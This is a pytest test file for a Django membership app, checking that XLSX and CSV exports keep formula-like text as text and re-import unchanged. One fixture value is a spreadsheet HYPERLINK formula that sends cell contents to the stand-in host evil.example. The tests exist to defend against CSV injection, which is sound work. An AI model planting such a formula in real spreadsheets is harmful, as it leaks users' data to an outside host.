"""Text that begins like a formula stays text in every spreadsheet the app writes, and
the member export still imports back unchanged."""

import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from branches.models import OrganizationNode
from members.models import Member
from partyorg.enums import ImportStatus
from partyorg.models import ImportBatch
from partyorg.spreadsheets import FORMULA_STARTS, csv_text, from_csv_text, write
from tests.factories import make_member
from tests.factories_reports import YEAR, build_district

LINK = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")'
TRICKY = {
    "full_name": LINK,
    "hometown": "+84 Hương Phú",
    "residence": "@SUM(1+1)",
    "party_card_number": "-1234",
}


def cells_with(book, texts) -> list:
    return [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value in texts
    ]


@pytest.fixture
def tricky_member(world):
    return make_member(world.branch_a, member_number="10000001", **TRICKY)


def upload_back(client, content, name) -> ImportBatch:
    client.post(
        reverse("imports:index"),
        {"kind": "members", "file": SimpleUploadedFile(name, content)},
    )
    return ImportBatch.objects.latest("pk")


@pytest.mark.django_db
def test_member_workbook_keeps_formula_like_text_as_text_and_imports_back(
    world, as_user, tricky_member
):
    client = as_user(world.officer)
    export = client.get(reverse("imports:export_members"), {"format": "xlsx"})

    book = openpyxl.load_workbook(io.BytesIO(export.content))
    cells = cells_with(book, set(TRICKY.values()))
    assert sorted(c.value for c in cells) == sorted(TRICKY.values())
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    batch = upload_back(client, export.content, "dang-vien.xlsx")
    assert batch.status == ImportStatus.CHECKED, batch.errors
    assert (batch.rows_unchanged, batch.rows_updated) == (1, 0)


@pytest.mark.django_db
def test_member_csv_prefixes_formula_like_text_and_imports_back(world, as_user, tricky_member):
    client = as_user(world.officer)
    export = client.get(reverse("imports:export_members"), {"format": "csv"})

    text = export.content.decode("utf-8-sig")
    for value in TRICKY.values():
        assert f"'{value}" in text.replace('""', '"')
    assert "'Nguyễn" not in text
    batch = upload_back(client, export.content, "dang-vien.csv")
    assert batch.status == ImportStatus.CHECKED, batch.errors
    assert (batch.rows_unchanged, batch.rows_updated) == (1, 0)
    assert Member.objects.get().full_name == LINK


@pytest.mark.django_db
def test_report_workbook_keeps_a_formula_like_node_name_as_text(world, as_user):
    build_district(world)
    OrganizationNode.objects.filter(pk=world.branch_a.pk).update(name=LINK)
    client = as_user(world.officer)

    for code in ("X1", "X1-B1"):  # the name in a parent's children table, and as a title
        response = client.get(reverse("reports:report_file", args=[code, YEAR, "xlsx"]))
        book = openpyxl.load_workbook(io.BytesIO(response.content))
        (cell,) = cells_with(book, {LINK})
        assert (cell.data_type, cell.quotePrefix) == ("s", True), code
    numbers = [c for c in book.worksheets[0]["B"] if isinstance(c.value, int | float)]
    assert numbers and all(c.data_type == "n" for c in numbers)


def test_numbers_stay_numbers_and_text_stays_text():
    sheet = openpyxl.Workbook().active
    assert write(sheet, 1, 1, -5).data_type == "n"
    assert write(sheet, 1, 2, -0.5).data_type == "n"
    cell = write(sheet, 1, 3, "-5")
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("-5", "s", True)
    cell = write(sheet, 1, 4, "Thôn 1")
    assert (cell.data_type, cell.quotePrefix) == ("s", False)
    assert csv_text(-5) == -5 and csv_text("-5") == "'-5"


@given(st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "a", "1", " "])))
def test_csv_text_never_starts_a_formula_and_reads_back_exactly(text):
    written = csv_text(text)
    assert not written.startswith(FORMULA_STARTS)
    assert from_csv_text(written) == text
